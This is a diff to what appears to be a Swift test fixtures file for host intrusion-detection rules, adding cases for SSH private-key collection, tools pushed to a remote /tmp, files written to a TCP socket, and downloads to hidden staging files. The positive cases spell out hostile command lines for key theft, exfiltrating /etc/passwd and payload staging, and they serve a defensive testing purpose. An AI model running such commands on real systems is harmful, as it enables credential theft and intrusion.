@@ -169,5 +169,43 @@ extension Fixtures {
             negatives: [
                 Case("jemalloc preloaded from /usr/lib", Actor(Proc("/usr/bin/env", ["env", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "redis-server"]), in: Trees.rootLogin).exec()),
             ]),
+        RuleFixture("ssh-private-keys-collected",
+            positives: [
+                Case("cp of a user's private key into a loot directory", Actor(Proc.line("/usr/bin/cp", "cp /home/alice/.ssh/id_ed25519 loot/"), in: Trees.rootLogin).exec()),
+                Case("cat of an unexpanded key glob", Actor(Proc.line("/usr/bin/cat", "cat /root/.ssh/id_*"), in: Trees.rootLogin).exec()),
+                Case("find over every home's .ssh for private keys", Actor(Proc.line("/usr/bin/find", "find /root/.ssh /home/*/.ssh -name id_* ! -name *.pub -exec cp {} loot/ ;"), in: Trees.rootLogin).exec()),
+            ],
+            negatives: [
+                Case("public key printed for authorized_keys", Actor(Proc.line("/usr/bin/cat", "cat /home/alice/.ssh/id_ed25519.pub"), in: Trees.userLogin).exec()),
+                Case("permissions fixed", Actor(Proc.line("/usr/bin/chmod", "chmod 600 /home/alice/.ssh/id_rsa"), in: Trees.userLogin).exec()),
+                Case("ssh-keygen derives the public key", Actor(Proc.line("/usr/bin/ssh-keygen", "ssh-keygen -y -f /home/alice/.ssh/id_rsa"), in: Trees.userLogin).exec()),
+            ]),
+
+        RuleFixture("tool-pushed-to-remote-temp",
+            positives: [
+                Case("scp of a tool into another host's /tmp", Actor(Proc.line("/usr/bin/scp", "scp -P 2222 -o BatchMode=yes tool root@10.0.0.9:/tmp/"), in: Trees.rootLogin).exec()),
+                Case("rsync into /dev/shm", Actor(Proc.line("/usr/bin/rsync", "rsync -a kit 10.0.0.9:/dev/shm/"), in: Trees.rootLogin).exec()),
+            ],
+            negatives: [
+                Case("deploy into an application directory", Actor(Proc.line("/usr/bin/rsync", "rsync -az --delete /srv/app/ deploy@web2.internal:/srv/app/"), in: Trees.rootLogin).exec()),
+                Case("fetch a file from another host's /tmp", Actor(Proc.line("/usr/bin/scp", "scp alice@10.0.0.9:/tmp/report.csv ."), in: Trees.userLogin).exec()),
+            ]),
+
+        RuleFixture("file-written-to-socket",
+            positives: [
+                Case("cat /etc/passwd > /dev/tcp/host/port", Actor(Proc.line("/usr/bin/cat", "cat /etc/passwd"), in: Trees.rootLogin).exec(stdout: .socket)),
+            ],
+            negatives: [
+                Case("cat to the terminal", Actor(Proc.line("/usr/bin/cat", "cat /etc/passwd"), in: Trees.rootLogin).exec()),
+                Case("an inetd service's cat", Actor(Proc.line("/usr/bin/cat", "cat /srv/motd"), in: Tree([Proc("/usr/sbin/inetd", ["/usr/sbin/inetd"]), Trees.systemd])).exec(stdout: .socket)),
+            ]),
+
+        RuleFixture("download-to-hidden-staging-file",
+            positives: [
+                Case("wget -O /var/tmp/.kit", Actor(Proc.line("/usr/bin/wget", "wget -q -O /var/tmp/.kit123 http://203.0.113.9/kit"), in: Trees.rootLogin).file(.create, "/var/tmp/.kit123")),
+            ],
+            negatives: [
+                Case("release tarball downloaded into a scratch directory", Actor(Proc.line("/usr/bin/curl", "curl -s -O http://127.0.0.1:8000/pkg.tgz"), in: Trees.rootLogin).file(.create, "/tmp/build-123/pkg.tgz")),
+            ]),
     ]
 }
